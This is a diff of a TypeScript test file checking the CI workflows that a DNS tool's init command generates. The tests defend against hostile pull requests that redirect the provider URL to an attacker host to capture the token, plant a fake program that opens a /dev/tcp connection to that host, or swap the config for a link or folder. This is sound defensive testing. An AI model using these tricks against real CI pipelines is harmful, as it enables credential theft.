@@ -1,4 +1,4 @@
-/** The CI workflows that `init` and the documentation give: their structure, and their steps run against a real git repository and service. */
+/** The CI workflows of `init` and the documentation: their structure, and their steps with a real git repository and service. */
 import { execFileSync, spawn } from 'node:child_process'
 import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
@@ -53,7 +53,7 @@ describe.each([
     for (const { branches } of Object.values(parsed.on)) expect(branches).toEqual(['main'])
   })
 
-  test.each(jobs)('%s: no file of the repository chooses the program', (_name, { steps }) => {
+  test.each(jobs)('%s: no file of the repository selects the program', (_name, { steps }) => {
     const install = steps.findIndex(({ run }) => /^npm install --global --ignore-scripts zonewright@[0-9.]+$/.test(run ?? ''))
     const files = steps.findIndex(({ uses }) => /^actions\/(?:checkout|download-artifact)@/.test(uses ?? ''))
     expect(install).toBeGreaterThanOrEqual(0)
@@ -61,14 +61,14 @@ describe.each([
     for (const { run = '' } of steps.slice(files)) expect(run).not.toMatch(/\b(?:npx|npm|node|node_modules)\b/)
   })
 
-  test.each(jobs)('%s: a checkout leaves no credentials, and no expression is part of a script', (_name, { steps }) => {
+  test.each(jobs)('%s: a checkout keeps no credentials, and no script contains an expression', (_name, { steps }) => {
     for (const { uses = '', with: settings, run = '' } of steps) {
       if (uses.startsWith('actions/checkout@')) expect(settings).toMatchObject({ 'persist-credentials': false })
       expect(run).not.toContain('${{')
     }
   })
 
-  test('only apply has the token that writes, in an environment; plan has the one that reads', () => {
+  test('only apply has the read-write token, in an environment; plan has the read-only token', () => {
     const { apply, plan, ...others } = parsed.jobs
     expect(secretsOf(apply)).toContain('ZONEWRIGHT_TOKEN')
     expect(apply?.environment).toMatch(/^[a-z]+$/)
@@ -96,7 +96,7 @@ test('the workflow of init names the scopes of plan, verify and apply', () => {
   expect(jobs['apply']?.if).toBe("github.event_name == 'push'")
 })
 
-test('the hosts that init sets are those of its config', async () => {
+test('init sets the hosts of its config', async () => {
   const [config, definition, dns] = initFiles({ zone: 'example.com.' as DomainName, soaEmail: 'a@example.com', version: '1.2.3' })
   const folder = temporaryDirectory()
   for (const { path, text } of [config, definition] as { path: string; text: string }[]) {
@@ -141,11 +141,11 @@ const git = (cwd: string, ...args: string[]): string =>
     stdio: ['ignore', 'pipe', 'ignore'],
   })
 
-/** A bare repository with the config and the zone on main, and a clone of somebody who may push branches. */
+/** A bare repository with the config and the zone on main, and a clone of a user who may push branches. */
 interface Repository {
   readonly bare: string
   readonly clone: string
-  /** Pushes a branch with what `change` does to the files. */
+  /** Pushes a branch with the changes of `change`. */
   branch(name: string, change: (folder: string) => void): void
 }
 
@@ -176,7 +176,7 @@ async function openRepository(scene: Scene): Promise<Repository> {
   }
 }
 
-/** What actions/checkout does for a pull request with `fetch-depth: 0`: all branches and tags, and the merge of the two branches. */
+/** Like actions/checkout for a pull request with `fetch-depth: 0`: all branches and tags, and the merge of the two branches. */
 function checkOut({ bare }: Repository, branch: string): string {
   const workspace = temporaryDirectory()
   git(workspace, 'init', '-q', '.')
@@ -193,7 +193,7 @@ interface JobRun {
   readonly summary: string
 }
 
-/** Runs the scripts of a job as the runner does; the program is the built one, found where `npm install --global` would put it. */
+/** Runs the scripts of a job like the runner, with the built program at its path after `npm install --global`. */
 async function runJob(job: string, scene: Scene, workspace: string): Promise<JobRun> {
   const { proxy, service } = scene
   const text = workflow('1.2.3', [new URL(proxy.origin).host, `${service.dnsAddress?.host}:${service.dnsAddress?.port}`])
@@ -240,7 +240,7 @@ const evilConfig = ({ host }: Attacker): string =>
   `providers: {cloud: {type: cloud, base_url: 'http://${host}/v4', token: 'env:ZONEWRIGHT_TOKEN'}}\n`
 
 describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
-  test('plan shows the definitions of the pull request and writes nothing; apply makes them after the merge', async () => {
+  test('plan shows the changes of the pull request and writes nothing; apply applies them after the merge', async () => {
     const scene = await openScene({ seed: SEED })
     const repository = await openRepository(scene)
     repository.branch('change', (folder) => writeFileSync(join(folder, 'zones/example.com.yaml'), ZONE.replace('192.0.2.2', '192.0.2.7')))
@@ -259,7 +259,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
   test.each<[string, (folder: string, attacker: Attacker) => void]>([
     ['changes the config', (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
     [
-      'makes the config a link to a file of its own',
+      'replaces the config by a link to its own file',
       (folder, attacker) => {
         writeFileSync(join(folder, 'evil.yaml'), evilConfig(attacker))
         rmSync(join(folder, 'zonewright.yaml'))
@@ -267,7 +267,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
       },
     ],
     [
-      'makes the config a folder',
+      'replaces the config by a folder',
       (folder, attacker) => {
         rmSync(join(folder, 'zonewright.yaml'))
         mkdirSync(join(folder, 'zonewright.yaml'))
@@ -275,7 +275,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
       },
     ],
     [
-      'brings a program, packages and settings of npm',
+      'adds a program, packages and npm settings',
       (folder, attacker) => {
         mkdirSync(join(folder, 'node_modules/.bin'), { recursive: true })
         writeFileSync(join(folder, 'node_modules/.bin/zonewright'), `#!/bin/sh\nexec 3<>/dev/tcp/${attacker.host.replace(':', '/')}\n`)
@@ -285,7 +285,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
         writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))
       },
     ],
-  ])('a pull request that %s is planned with the config of the base branch', async (_, change) => {
+  ])('plans a pull request that %s with the config of the base branch', async (_, change) => {
     const scene = await openScene({ seed: SEED })
     const attacker = await startAttacker()
     const repository = await openRepository(scene)
@@ -298,7 +298,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
     expect(new Set(scene.proxy.requests.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${READ}`]))
   })
 
-  test('a tag that is called like the branch does not stand in for it', async () => {
+  test('a tag with the name of the branch does not replace it', async () => {
     const scene = await openScene({ seed: SEED })
     const attacker = await startAttacker()
     const repository = await openRepository(scene)
@@ -320,7 +320,7 @@ describeWithTools(['git', 'bash'], 'the jobs of the workflow', () => {
     expect(attacker.received()).toBe('')
   })
 
-  test('the config that is merged all the same goes nowhere either: apply has the list of the workflow', async () => {
+  test('apply refuses that host after a merge, with the list of the workflow', async () => {
     const scene = await openScene({ seed: SEED })
     const attacker = await startAttacker()
     const repository = await openRepository(scene)
